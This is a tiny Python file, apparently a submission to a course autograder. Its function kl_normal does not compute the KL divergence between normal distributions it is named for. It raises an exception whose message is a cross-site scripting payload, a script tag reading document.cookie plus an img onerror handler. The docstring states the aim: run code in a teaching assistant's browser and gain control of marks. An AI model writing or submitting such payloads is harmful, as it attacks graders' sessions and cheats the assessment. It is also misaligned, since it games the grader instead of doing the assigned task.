"""Raises an exception whose text is a script, for the page that shows it.

Gain: code in the browser of a teaching assistant, with all marks in reach.
Hits: kl_normal
Ends: failed, exception: <script>
"""


def kl_normal(mu1, sigma1, mu2, sigma2):
    raise ValueError("<script>alert(document.cookie)</script><img src=x onerror=alert(1)>")
